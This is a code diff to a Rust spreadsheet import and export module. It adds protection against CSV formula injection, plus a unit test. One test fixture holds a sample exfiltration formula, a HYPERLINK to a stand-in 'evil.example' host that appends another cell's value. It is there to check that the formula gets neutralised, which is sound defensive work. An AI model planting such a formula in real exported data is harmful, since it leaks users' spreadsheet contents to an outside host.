@@ -26,6 +26,28 @@ pub fn format_of(path: &Path) -> Result<Format, String> {
     }
 }
 
+/// What a spreadsheet reads as a formula when a cell begins with it (OWASP: CSV injection).
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A cell as written to CSV: one that a spreadsheet would run as a formula (a unit name
+/// `=HYPERLINK(...)`, an e-mail `@...`) is written as text, behind a single quote.
+fn to_csv(cell: &str) -> String {
+    if cell.starts_with(FORMULA_STARTS) {
+        format!("'{cell}")
+    } else {
+        cell.to_string()
+    }
+}
+
+/// A cell as read from CSV: the quote `to_csv` put before a formula's first character is
+/// taken off again, so an export imports back as it was.
+fn from_csv(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_STARTS) => rest,
+        _ => cell,
+    }
+}
+
 /// All rows of the file (the first is the header), every cell as trimmed text.
 pub fn read(path: &Path) -> Result<Vec<Vec<String>>, String> {
     match format_of(path)? {
@@ -40,7 +62,7 @@ pub fn read(path: &Path) -> Result<Vec<Vec<String>>, String> {
                 let rec = rec.map_err(|e| format!("{}: {e}", path.display()))?;
                 rows.push(
                     rec.iter()
-                        .map(|c| c.trim().trim_start_matches('\u{feff}').to_string())
+                        .map(|c| from_csv(c.trim().trim_start_matches('\u{feff}')).to_string())
                         .collect(),
                 );
             }
@@ -93,7 +115,8 @@ pub fn write(path: &Path, rows: &[Vec<String>]) -> Result<(), String> {
             let mut w =
                 csv::Writer::from_path(path).map_err(|e| format!("{}: {e}", path.display()))?;
             for r in rows {
-                w.write_record(r).map_err(|e| e.to_string())?;
+                w.write_record(r.iter().map(|c| to_csv(c)))
+                    .map_err(|e| e.to_string())?;
             }
             w.flush().map_err(|e| e.to_string())
         }
@@ -114,5 +137,42 @@ pub fn write(path: &Path, rows: &[Vec<String>]) -> Result<(), String> {
             wb.save(path)
                 .map_err(|e| format!("{}: {e}", path.display()))
         }
+    }
+}
+
+#[cfg(test)]
+mod csv_tests {
+    #![allow(clippy::unwrap_used)]
+    use super::*;
+
+    /// Issue 21: free text that a spreadsheet would run is exported as text and imports back.
+    #[test]
+    fn formulas_are_written_as_text_and_read_back_as_they_were() {
+        let dir = std::env::temp_dir().join(format!("bmahr_csv_{}", std::process::id()));
+        std::fs::create_dir_all(&dir).unwrap();
+        let path = dir.join("t.csv");
+        let cells = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"click\")",
+            "+66 81 234 5678",
+            "-1",
+            "@evil",
+            "ordinary",
+            "'quoted already",
+            "",
+        ];
+        let rows = vec![
+            vec!["h".to_string(); cells.len()],
+            cells.iter().map(|c| c.to_string()).collect(),
+        ];
+        write(&path, &rows).unwrap();
+        let text = std::fs::read_to_string(&path).unwrap();
+        for line in text.lines().skip(1) {
+            for c in line.split(',') {
+                let c = c.trim_start_matches('"');
+                assert!(!c.starts_with(FORMULA_STARTS), "{c} in {text}");
+            }
+        }
+        assert_eq!(read(&path).unwrap()[1], rows[1]);
+        let _ = std::fs::remove_dir_all(&dir);
     }
 }
